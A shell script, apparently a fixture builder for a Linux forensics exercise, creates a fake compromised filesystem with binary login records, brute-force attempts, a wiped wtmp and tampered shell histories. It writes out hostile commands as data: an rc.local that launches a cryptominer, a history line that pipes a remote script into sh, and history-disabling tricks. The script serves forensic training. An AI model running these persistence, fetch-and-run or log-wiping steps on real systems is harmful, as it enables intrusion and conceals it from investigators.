#!/bin/sh
# No text auth log (removed): the story comes from wtmp, btmp, utmp and lastlog written
# with glibc's real 384-byte struct utmp (and 292-byte struct lastlog), three login
# records zeroed by a cleaner, and the histories (zsh with times, one linked to /dev/null).
set -e
root=$1
mkdir -p "$root/etc" "$root/var/log" "$root/var/run" "$root/root" "$root/home/ops"
cat >"$root/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/zsh
ops:x:1001:1001:ops:/home/ops:/bin/bash
P
printf '#!/bin/sh -e\nnohup /tmp/.x/kthreaddi -o pool.supportxmr.com:3333 >/dev/null 2>&1 &\nexit 0\n' >"$root/etc/rc.local"
chmod 755 "$root/etc/rc.local"
printf ': 1710000100:0;cd /tmp\n: 1710000130:0;curl -s http://198.51.100.23/k.sh | sh\n: 1710000200:0;unset HISTFILE\n' >"$root/root/.zsh_history"
ln -s /dev/null "$root/home/ops/.bash_history"
python3 - "$root" <<'PY'
import socket, struct, sys
root = sys.argv[1]
FMT = "<h2xi32s4s32s256shhiii16s20s"
assert struct.calcsize(FMT) == 384
def rec(typ, pid, line, user, host, t, ip=None):
    addr = socket.inet_aton(ip) + b"\0" * 12 if ip else b"\0" * 16
    return struct.pack(FMT, typ, pid, line.encode(), b"ts/0", user.encode(), host.encode(),
                       0, 0, 0, t, 0, addr, b"\0" * 20)
T = 1710000000  # 2024-03-09 16:00:00 UTC
w = rec(2, 0, "~", "reboot", "6.1.0-18-amd64", T - 86400)
w += rec(7, 811, "pts/0", "ops", "192.0.2.10", T - 7200, "192.0.2.10")
w += rec(8, 811, "pts/0", "", "", T - 7000)
w += b"\0" * 384 * 3                     # what a wtmp cleaner leaves
w += rec(7, 901, "pts/1", "root", "198.51.100.23", T + 30, "198.51.100.23")
open(root + "/var/log/wtmp", "wb").write(w)
b = b"".join(rec(6, 950 + i, "ssh:notty", "root", "198.51.100.99", T - 600 + i, "198.51.100.99") for i in range(5))
open(root + "/var/log/btmp", "wb").write(b)
open(root + "/var/run/utmp", "wb").write(rec(7, 901, "pts/1", "root", "198.51.100.23", T + 30, "198.51.100.23"))
ll = struct.pack("<i32s256s", T + 30, b"pts/1", b"198.51.100.23")
assert len(ll) == 292
open(root + "/var/log/lastlog", "wb").write(ll)
PY
touch -d @1710000190 "$root/etc/rc.local"
